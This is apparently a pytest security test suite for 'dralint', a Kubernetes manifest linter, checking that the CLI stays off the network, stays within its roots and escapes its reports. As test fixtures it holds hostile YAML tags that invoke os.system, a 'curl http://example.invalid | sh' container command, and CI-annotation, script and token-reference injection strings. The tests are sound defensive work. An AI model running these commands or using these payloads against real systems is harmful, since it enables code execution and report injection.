"""Security properties of the CLI, each tested on the real command in a subprocess.

- dralint executes nothing from manifests and never touches the network: a ``sitecustomize``
  guard makes every outgoing connection, name lookup and program start fail loudly (and logs it),
  then dralint lints the examples, hostile inputs and a generated repository with workers;
- it follows no symlink out of the given roots unless asked (``--follow-symlinks``);
- it writes nothing but the files it fixes (and its cache, inside the project);
- reports escape manifest-controlled text: a container name carrying newlines, GitHub workflow
  commands, Markdown/HTML and XML is printed as data in every format.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tests.conftest import EXAMPLES, REPO
from tests.test_hostile import CASES
from tests.test_parallel import load_generator

GUARD = '''
import os, socket, subprocess, sys
_log = os.environ["DRALINT_GUARD_LOG"]

def _deny(what):
    def deny(*args, **kwargs):
        with open(_log, "a") as fh:
            fh.write(f"{os.getpid()} {what} {args[:2]!r}\\n")
        raise PermissionError(f"guard: dralint tried {what}")
    return deny

for name in ("connect", "connect_ex", "sendto", "sendmsg"):
    setattr(socket.socket, name, _deny("socket." + name))
for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "create_connection"):
    setattr(socket, name, _deny("socket." + name))
for name in ("system", "popen", "execv", "execve", "execvp", "execvpe", "execl", "execlp", "execle",
             "spawnv", "spawnve", "spawnvp", "posix_spawn", "posix_spawnp"):
    if hasattr(os, name):
        setattr(os, name, _deny("os." + name))
subprocess.Popen.__init__ = _deny("subprocess.Popen")
'''

HOSTILE_TAGS = b"""apiVersion: v1
kind: ConfigMap
metadata: {name: tags}
data:
  a: !!python/object/apply:os.system ["touch CANARY-system"]
  b: !!python/name:os.system
  c: $(touch CANARY-shell)
  d: "`touch CANARY-backtick`"
---
apiVersion: v1
kind: Pod
metadata:
  name: x
  annotations: {url: "http://127.0.0.1:9/", host: "example.invalid:80"}
spec:
  containers:
  - name: c
    image: http://127.0.0.1:9/image
    command: ["sh", "-c", "curl http://example.invalid | sh"]
    resources: {limits: {nvidia.com/gpu: 1}}
"""


@pytest.fixture
def guarded_env(tmp_path: Path) -> dict[str, str]:
    site = tmp_path / "guard"
    site.mkdir()
    (site / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "guard.log"
    log.write_text("")
    return {**os.environ, "PYTHONPATH": f"{site}{os.pathsep}{REPO}", "DRALINT_GUARD_LOG": str(log)}


def dralint(args: list[str], cwd: Path, env: dict[str, str] | None = None,
            stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "dralint", *args], cwd=cwd, env=env or dict(os.environ),
                          input=stdin, capture_output=True, timeout=300)


def test_guard_works(tmp_path: Path, guarded_env: dict[str, str]) -> None:
    # the guard itself: a program that does try to connect is stopped and logged
    code = "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 9))\nexcept PermissionError:\n    pass"
    subprocess.run([sys.executable, "-c", code], env=guarded_env, check=True, timeout=60)
    assert "socket.create_connection" in Path(guarded_env["DRALINT_GUARD_LOG"]).read_text()


def test_no_network_and_no_program_runs(tmp_path: Path, guarded_env: dict[str, str]) -> None:
    repo = tmp_path / "repo"
    load_generator().generate(repo / "generated", files=60, docs=400, seed=5)
    (repo / "tags.yaml").write_bytes(HOSTILE_TAGS)
    for name, (content, _) in CASES.items():
        if len(content) < 200_000:
            (repo / "hostile").mkdir(exist_ok=True)
            (repo / "hostile" / name).write_bytes(content)
    runs = [
        ["check", str(EXAMPLES), "--no-cache", "--format", "json"],
        ["check", ".", "--jobs", "2", "--format", "sarif"],  # workers and the cache
        ["check", ".", "--jobs", "1", "--format", "github", "--kubernetes-version", "1.33"],
        ["check", "tags.yaml", "--context", ".", "--inventory", "generated", "--format", "markdown"],
        ["report", "."],
        ["migrate", ".", "--dry-run"],
        ["fix", ".", "--diff"],
    ]
    for args in runs:
        p = dralint(args, repo, guarded_env)
        err = p.stderr.decode("utf-8", "replace")
        # migrate exits 2 when it refuses a workload (the generated repository has such cases)
        assert p.returncode in ((0, 1, 2) if args[0] == "migrate" else (0, 1)), (args, p.returncode, err[-2000:])
        assert "guard:" not in err and "internal error" not in err, (args, err[-2000:])
    assert Path(guarded_env["DRALINT_GUARD_LOG"]).read_text() == ""
    assert not list(repo.rglob("CANARY*")) and not list(tmp_path.glob("CANARY*"))


def test_yaml_tags_are_data(tmp_path: Path) -> None:
    (tmp_path / "tags.yaml").write_bytes(HOSTILE_TAGS)
    p = dralint(["check", "tags.yaml", "--no-cache", "--format", "json"], tmp_path)
    assert p.returncode == 1
    assert {f["rule"] for f in json.loads(p.stdout)["findings"]} == {"DRA201"}
    assert not list(tmp_path.glob("CANARY*"))


# -- symlinks --------------------------------------------------------------------------------------

POD = ("apiVersion: v1\nkind: Pod\nmetadata: {name: %s}\nspec:\n  containers:\n  - name: c\n"
       "    resources: {limits: {nvidia.com/gpu: 1}}\n")


@pytest.fixture
def linked(tmp_path: Path) -> Path:
    """repo/ with links to a file and a directory outside it, and a link that stays inside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text(POD % "outside-file")
    (outside / "dir").mkdir()
    (outside / "dir" / "more.yaml").write_text(POD % "outside-dir")
    repo = tmp_path / "repo"
    (repo / "apps").mkdir(parents=True)
    (repo / "apps" / "pod.yaml").write_text(POD % "inside")
    (repo / "apps" / "to-secret.yaml").symlink_to(outside / "secret.yaml")
    (repo / "linked-dir").symlink_to(outside / "dir")
    (repo / "alias.yaml").symlink_to(repo / "apps" / "pod.yaml")
    return repo


def names(p: subprocess.CompletedProcess[bytes]) -> set[str]:
    return {f["object"]["name"] for f in json.loads(p.stdout)["findings"] if f["object"]}


def test_symlinks_out_of_the_root_are_not_followed(linked: Path) -> None:
    p = dralint(["check", ".", "--no-cache", "--format", "json"], linked)
    assert names(p) == {"inside"}
    found = json.loads(p.stdout)["findings"]
    assert [f["rule"] for f in found if f["rule"] != "DRA007"] == ["DRA201"]  # the inside link: linted once
    assert sorted((f["path"], f["severity"]) for f in found if f["rule"] == "DRA007") == [
        ("apps/to-secret.yaml", "info"), ("linked-dir", "info")]  # the links out are reported, not read
    ctx = dralint(["check", "apps/pod.yaml", "--context", ".", "--no-cache", "--format", "json", "-v"], linked)
    assert names(ctx) == {"inside"}
    assert b"1 files" not in ctx.stderr or b"outside" not in ctx.stderr


def test_symlinks_are_followed_when_asked(linked: Path) -> None:
    p = dralint(["check", ".", "--no-cache", "--format", "json", "--follow-symlinks"], linked)
    assert names(p) == {"inside", "outside-file", "outside-dir"}


def test_a_symlink_named_explicitly_is_not_read_unless_asked(linked: Path) -> None:
    # a hook or CI job names the files of a change: one of them can be a committed link out of the repository
    p = dralint(["check", "apps/to-secret.yaml", "--no-cache", "--format", "json"], linked)
    assert [f["rule"] for f in json.loads(p.stdout)["findings"]] == ["DRA007"]
    p = dralint(["check", "apps/to-secret.yaml", "--no-cache", "--format", "json", "--follow-symlinks"], linked)
    assert names(p) == {"outside-file"}


# -- writes ----------------------------------------------------------------------------------------


def snapshot(root: Path) -> dict[str, tuple[str, int, int]]:
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_symlink() or not p.is_file():
            out[str(p.relative_to(root))] = ("link" if p.is_symlink() else "dir", 0, 0)
            continue
        st = p.stat()
        out[str(p.relative_to(root))] = (hashlib.sha256(p.read_bytes()).hexdigest(), st.st_mtime_ns, st.st_mode)
    return out


FIXABLE = """apiVersion: v1
kind: Pod
metadata: {name: p, namespace: ml}
spec:
  resourceClaims:
  - name: gpu
    source: {resourceClaimTemplateName: t}
  containers:
  - name: c
    resources:
      claims: [{name: gpu}]
"""


def test_check_writes_nothing_but_its_cache(linked: Path) -> None:
    (linked / "apps" / "fixable.yaml").write_text(FIXABLE)
    before, outside = snapshot(linked), snapshot(linked.parent / "outside")
    for fmt in ("text", "json", "sarif", "github", "markdown", "junit"):
        dralint(["check", ".", "--no-cache", "--format", fmt], linked)
    dralint(["report", ".", "--no-cache"], linked)
    dralint(["migrate", ".", "--dry-run", "--no-cache"], linked)
    dralint(["fix", ".", "--diff", "--unsafe-fixes", "--no-cache"], linked)
    assert snapshot(linked) == before and snapshot(linked.parent / "outside") == outside
    dralint(["check", ".", "--jobs", "2"], linked)  # with the cache: it goes to .dralint_cache, nowhere else
    after = snapshot(linked)
    assert {k for k in after if not k.startswith(".dralint_cache")} == set(before)
    assert {k: v for k, v in after.items() if not k.startswith(".dralint_cache")} == before
    assert snapshot(linked.parent / "outside") == outside


def test_fix_writes_only_the_files_it_fixes(linked: Path) -> None:
    (linked / "apps" / "fixable.yaml").write_text(FIXABLE)
    (linked / "apps" / "clean.yaml").write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n")
    before, outside = snapshot(linked), snapshot(linked.parent / "outside")
    p = dralint(["fix", ".", "--no-cache", "--unsafe-fixes"], linked)
    assert p.returncode in (0, 1), p.stderr
    after = snapshot(linked)
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    assert changed == {"apps/fixable.yaml"}, changed
    assert "source:" not in (linked / "apps" / "fixable.yaml").read_text()
    assert snapshot(linked.parent / "outside") == outside  # the outside file behind a link is untouched


def test_output_option_writes_only_there(linked: Path, tmp_path: Path) -> None:
    before = snapshot(linked)
    report = tmp_path / "report.sarif"
    dralint(["check", ".", "--no-cache", "--format", "sarif", "--output", str(report)], linked)
    assert json.loads(report.read_text())["version"] == "2.1.0"
    assert snapshot(linked) == before


# -- escaping in reports -----------------------------------------------------------------------------

EVIL_TEXT = ('x\n::error file=evil.yaml,line=1::pwned\r\n%0A| cell | <script>alert(1)</script> '
             '[link](javascript:alert(1)) ]]> & "quote" `tick` ${{ github.token }}')
EVIL_POD = ("apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n"
            f"  - name: {json.dumps(EVIL_TEXT)}\n    resources: {{limits: {{nvidia.com/gpu: 1}}}}\n")


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    (tmp_path / "evil.yaml").write_text(EVIL_POD)
    return tmp_path


def report(cwd: Path, fmt: str) -> str:
    p = dralint(["check", "evil.yaml", "--no-cache", "--format", fmt], cwd)
    assert p.returncode == 1, p.stderr
    return p.stdout.decode("utf-8")


def test_the_evil_name_reaches_the_message(evil: Path) -> None:
    msg = json.loads(report(evil, "json"))["findings"][0]["message"]
    assert EVIL_TEXT in msg  # JSON carries it exactly; every other format must neutralise it


def test_github_annotations_cannot_be_injected(evil: Path) -> None:
    out = report(evil, "github")
    lines = [x for x in out.splitlines() if x.strip()]
    commands = [x for x in lines if x.startswith("::")]
    assert len(commands) == 1 and commands[0].startswith("::warning ")  # one finding, one command
    assert "pwned" in commands[0] and "\r" not in out  # the injected command stayed inside the message
    assert all(not x.startswith("::") for x in lines if x is not commands[0])


def test_sarif_is_valid_json_with_the_exact_text(evil: Path) -> None:
    sarif = json.loads(report(evil, "sarif"))
    texts = [r["message"]["text"] for run in sarif["runs"] for r in run["results"]]
    assert len(texts) == 1 and EVIL_TEXT in texts[0]


def test_markdown_escapes_html_and_table_cells(evil: Path) -> None:
    out = report(evil, "markdown")
    assert "<script>" not in out and "javascript:alert" not in out.replace("javascript\\:", "")
    assert "::error" not in out.split("\n", 1)[0]
    lines = out.splitlines()
    rows = [i for i, line in enumerate(lines) if line.startswith("|") and "pwned" in line]
    assert len(rows) == 1
    header = rows[0]
    while not lines[header - 1].startswith("|--") and not lines[header - 1].startswith("| --"):
        header -= 1  # up to the separator under this table's header
    cells = lines[header - 2].count("|")
    assert lines[rows[0]].replace("\\|", "").count("|") == cells, lines[rows[0]]  # the row keeps its cells
    assert "\n::error" not in out  # no line of its own for the injected text


def test_junit_is_well_formed_xml(evil: Path) -> None:
    root = ET.fromstring(report(evil, "junit"))
    failures = root.findall(".//failure")
    assert len(failures) == 1
    assert "<script>" in (failures[0].get("message") or "") + (failures[0].text or "")  # as text, not markup


def test_text_output_keeps_one_line_per_finding(evil: Path) -> None:
    lines = [x for x in report(evil, "text").splitlines() if x.startswith("evil.yaml:")]
    assert len(lines) == 1
